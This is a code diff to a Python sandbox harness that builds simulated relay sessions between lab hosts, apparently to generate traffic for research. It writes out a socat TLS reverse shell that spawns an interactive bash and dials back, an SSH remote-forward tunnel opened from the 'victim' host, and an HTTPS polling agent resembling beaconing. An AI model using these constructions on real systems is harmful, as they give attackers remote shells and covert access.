@@ -9,6 +9,7 @@ from __future__ import annotations
 import shlex
 from dataclasses import dataclass, field
 
+import relays_hard
 from plan import Plan, Session
 from sandbox import HOME, STATE, TOOLS, USER
 
@@ -35,6 +36,17 @@ class Client:
     before: list[dict[str, object]] = field(default_factory=list)  # {"argv", "port"}: wait until port listens
     typed_logins: list[str] = field(default_factory=list)  # commands typed to get from host to host
     prompt: bool = True  # a shell greets us
+    script: list[str] = field(default_factory=list)  # commands in this order, instead of the driver's own choice
+
+
+@dataclass(frozen=True)
+class Agent:
+    """A second program of a session: `delay_s` after the driver starts, or before it if negative."""
+
+    host: str
+    argv: list[str]
+    delay_s: float
+    as_user: bool = True
 
 
 @dataclass
@@ -43,7 +55,8 @@ class Fitting:
     haproxy: dict[str, list[tuple[int, str, int]]] = field(default_factory=dict)  # host → listen, to
     stunnel: dict[str, list[tuple[int, bool, str, int]]] = field(default_factory=dict)  # host → listen, TLS out?, to
     processes: list[tuple[str, list[str]]] = field(default_factory=list)  # host, argv: from the start to the end
-    agents: dict[str, tuple[str, list[str], float]] = field(default_factory=dict)  # session → host, argv, delay
+    processes_as_root: list[tuple[str, list[str]]] = field(default_factory=list)
+    agents: dict[str, Agent] = field(default_factory=dict)  # by session
     clients: dict[str, Client] = field(default_factory=dict)
 
     def redirect(self, host: str, daemon: str, port: int) -> None:
@@ -70,6 +83,12 @@ class Fitter:
         return 2000 + self.number * 10 + index
 
     # -- helpers ------------------------------------------------------------------------------------------------
+
+    def web_server(self) -> str:
+        return self._plan.topology.with_role("server")[0].address
+
+    def agent(self, host: str, argv: list[str], delay_s: float, as_user: bool = True) -> None:
+        self.fitting.agents[self.session.id] = Agent(host, argv, delay_s, as_user)
 
     def ssh_host(self, alias: str, address: str, port: int, *options: str) -> None:
         self.hosts.append("\n  ".join([f"Host {alias}", f"HostName {address}", f"Port {port}", *options]))
@@ -155,7 +174,7 @@ class Fitter:
         last = session.chain[-1]
         self.fitting.redirect(last, "sshd", session.ports[-1])
         back = ["ssh", "-N", "-R", f"127.0.0.1:{port}:127.0.0.1:22", "-p", str(session.ports[-1]), self.address(last)]
-        self.fitting.agents[session.id] = (session.victim, back, -3.0)
+        self.agent(session.victim, back, -3.0)
         self.ssh_host("victim", "127.0.0.1", port, f"ProxyJump {self._jump_hosts(session.chain, session.ports)}")
         return self.client(self.ssh_session())
 
@@ -232,7 +251,7 @@ class Fitter:
             self.fitting.processes.append((nodes[index], ["socat", listen, back]))
         shell = "bash -i,pty,setsid,ctty,stderr,sane" if self.terminal else "bash,stderr"
         dial = f"OPENSSL:{self.address(nodes[-1])}:{session.ports[-1]},verify=0,nodelay"
-        self.fitting.agents[session.id] = (session.victim, ["socat", f"EXEC:{shell}", dial], 2.0)
+        self.agent(session.victim, ["socat", f"EXEC:{shell}", dial], 2.0)
         return self.client(["socat", "-", f"OPENSSL-LISTEN:{session.ports[0]}{TLS_SERVER},reuseaddr,nodelay"])
 
     def https_polling(self) -> Client:
@@ -245,7 +264,7 @@ class Fitter:
         tool = str(TOOLS / "poll_control.py")
         url = f"{self.address(nodes[-1])}:{session.ports[-1]}"
         agent = [PYTHON, tool, "poll", url, str(session.length_s), str(session.seed)]
-        self.fitting.agents[session.id] = (session.victim, agent, 1.5)
+        self.agent(session.victim, agent, 1.5)
         serve = [PYTHON, tool, "serve", str(session.ports[0]), str(CERTIFICATE), str(session.seed)]
         client = self.client(serve)
         client.terminal, client.prompt = False, False
@@ -256,7 +275,7 @@ TLS_SERVER = f",cert={CERTIFICATE},verify=0"
 
 _BUILDERS = {"ssh-nested": Fitter.ssh_nested, "ssh-J": Fitter.ssh_jump, "ssh-L": Fitter.ssh_local_forward,
              "ssh-D": Fitter.ssh_dynamic_forward, "ssh-R": Fitter.ssh_remote_forward,
-             "reverse-socat-tls": Fitter.reverse_shell, "https-poll": Fitter.https_polling}
+             "reverse-socat-tls": Fitter.reverse_shell, "https-poll": Fitter.https_polling} | relays_hard.BUILDERS
 
 
 def fit(plan: Plan) -> Fitting:
